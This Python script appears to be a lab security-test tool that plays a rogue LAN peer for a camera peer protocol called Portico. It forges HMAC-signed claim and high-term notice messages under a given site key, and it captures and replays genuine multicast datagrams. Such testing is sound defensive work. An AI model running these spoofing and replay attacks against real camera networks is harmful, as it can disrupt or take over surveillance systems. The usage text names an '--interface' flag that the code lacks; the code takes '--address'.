#!/usr/bin/env python3
"""A rogue on the LAN, for the lab's security tests: it forges Portico peer messages
under a wrong site key (or the right one, as a buggy or stolen camera would), and
replays genuine datagrams it captured.

  rogue_peer.py forge  --interface eth0 --key-file KEY [--count N] [--term T] [--name NAME]
  rogue_peer.py replay --interface eth0 [--listen SECONDS] [--count N]

Traffic goes only to the site's multicast group on the given interface (TTL 1)."""
import argparse, hashlib, hmac, socket, struct, time

GROUP, PORT = "239.255.42.42", 4242


def text(value):
    raw = value.encode()
    return bytes([len(raw)]) + raw


def forged(key, kind, sequence, term, name):
    body = b"PTCO" + bytes([1, kind]) + struct.pack(">QQ", sequence, term)
    body += text("rogue-" + name) + text(name) + text("198.51.100.99") + struct.pack(">HH", 8080, 8099) + text("00")
    return body + hmac.new(key, body, hashlib.sha256).digest()


def sender(interface_address):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(interface_address))
    return sock


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["forge", "replay"])
    parser.add_argument("--address", required=True, help="this host's LAN address")
    parser.add_argument("--key-file")
    parser.add_argument("--count", type=int, default=20)
    parser.add_argument("--listen", type=float, default=3)
    parser.add_argument("--term", type=int, default=1_000_000, help="the term the forged messages carry")
    parser.add_argument("--name", default="rogue", help="the camera name they carry (the sender is rogue-NAME)")
    args = parser.parse_args()
    out = sender(args.address)
    if args.mode == "forge":
        key = open(args.key_file, "rb").read().strip()
        now = int(time.time() * 1e6)
        for i in range(args.count):
            # claim, rotated, inquiry, notice with a huge term, in increasing sequence order
            for j, kind in enumerate((5, 6, 1, 3)):
                out.sendto(forged(key, kind, now + i * 10 + j, args.term, args.name), (GROUP, PORT))
            time.sleep(0.05)
        print("forged", args.count * 4)
        return
    listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listen.bind((GROUP, PORT))
    membership = socket.inet_aton(GROUP) + socket.inet_aton(args.address)
    listen.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    listen.settimeout(0.2)
    captured, deadline = [], time.time() + args.listen
    while time.time() < deadline:
        try:
            captured.append(listen.recv(1024))
        except socket.timeout:
            pass
    for i in range(args.count):
        for datagram in captured:
            out.sendto(datagram, (GROUP, PORT))
        time.sleep(0.05)
    print("replayed", len(captured), "datagrams", args.count, "times")


if __name__ == "__main__":
    main()
